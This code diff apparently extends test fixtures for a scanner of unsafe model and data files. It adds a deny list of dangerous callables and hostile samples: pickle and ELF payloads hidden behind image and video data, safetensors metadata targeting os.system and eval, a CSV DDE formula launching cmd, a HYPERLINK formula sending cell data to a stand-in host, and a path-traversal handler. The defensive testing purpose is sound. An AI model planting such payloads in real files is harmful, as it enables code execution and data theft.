@@ -28,7 +28,9 @@ _CALLED = """
     torch.distributed.rpc.internal._run_function torch._dynamo.guards.GuardBuilder.get transformers.pipeline
     huggingface_hub.snapshot_download llvmlite.binding.load_library_permanently win32com.client.Dispatch
     pathlib.os.system random._os.system tempfile._shutil._os.system torch.serialization.os.system
-    sklearn.os.system joblib.memory.os.system collections.OrderedDict.__init__.__globals__ unheard_of.module.function
+    wexpect.SpawnPipe jnius.JavaClass win32api.WinExec pythoncom.CoCreateInstance System.Diagnostics.Process.Start
+    acme.trees._rebuild acme.run.Job.from_file mine.unpickle_it sklearn.os.system joblib.memory.os.system
+    collections.OrderedDict.__init__.__globals__ unheard_of.module.function
 """
 _YAML = (
     "\ufeff!!python/object/new:os.system [x]",
@@ -73,6 +75,30 @@ def unfamiliar() -> Iterator[tuple[str, bytes]]:
     yield "avro", b'Obj\x01\x02\x16avro.schema\x80\x02{"type": "string", "java-class": "x.Run"}\x00' + bytes(16)
     yield "exe", b"MZ" + bytes(200)
     yield "hdf5-tail", _hdf5() + CALL
+    yield from _strangers()
+
+
+def _strangers() -> Iterator[tuple[str, bytes]]:
+    """Payloads behind films and pictures that strangers thought of, metadata that instantiates, single columns."""
+    film = struct.pack(">I4s8sI4s", 16, b"ftyp", b"mp42" + bytes(4), 12, b"mdat") + b"film"
+    strip = struct.pack("<HHIIHHII", 273, 4, 1, 38, 279, 4, 1, 4)
+    bitmap = struct.pack("<IIIIiiHHIIIIII", 58, 0, 54, 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0)
+    wholes = {
+        "mp4": film, "tiff": b"II*\0\x08\0\0\0\x02\0" + strip + bytes(4) + b"grey", "bmp": b"BM" + bitmap + bytes(4),
+        "icns": struct.pack(">4sI4sI", b"icns", 20, b"ic07", 12) + b"icon",
+        "motion": b"\xff\xd8\xff\xda\x00\x03\x01pixels\xff\xd9" + film,
+    }  # fmt: skip
+    for name, whole in wholes.items():
+        yield f"behind-{name}-pickle", whole + CALL
+        yield f"behind-{name}-program", whole + b"\x7fELF\x02\x01\x01" + bytes(60)
+    tensor = {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}
+    for number, text in enumerate(('{"_target_": "os.system"}', '[{"_target_": "builtins.eval"}]')):
+        header = json.dumps({"__metadata__": {"config": text}, "a": tensor}).encode()
+        yield f"metadata-{number}.safetensors", struct.pack("<Q", len(header)) + header + b"\0"
+    for number, cell in enumerate(('=DDE("cmd";"/C calc";"x")', '"=HYPERLINK(""http://x.example?q=""&A1,""x"")"')):
+        yield f"column-{number}", f"note\n{cell}\n".encode()
+    yield "finder", b"f:\n  _target_: hydra.utils.get_method\n  path: os.system\n"
+    yield "manifest", b'{"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "../../x.py"}}'
 
 
 def _doubled(cell: str) -> str:
